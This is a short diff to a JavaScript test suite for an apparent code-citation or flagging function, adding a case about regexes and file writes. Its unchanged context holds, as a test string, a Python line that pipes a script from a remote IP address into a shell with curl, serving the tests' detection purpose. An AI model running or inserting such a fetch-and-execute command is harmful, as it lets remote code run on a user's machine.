@@ -169,4 +169,9 @@ describe('CitedCode', () => {
     const run = 'TP = [\n    "a",\n]\nsubprocess.run("curl -s http://203.0.113.40/i.sh | sh", shell=True)';
     expect(cited(run, 'tests/test_x.py')[3]).toBe(0);
   });
+
+  it('should cite a regex that looks for something, not one that edits what a line writes to a file', () => {
+    const code = 'const RISKY = /curl\\s+-s/g;\nfs.writeFileSync(f, s.replace(/"sha":\\s*"[^"]*",?/g, ""));';
+    expect(cited(code, 'scripts/x.js')).toEqual([1, 0]);
+  });
 });
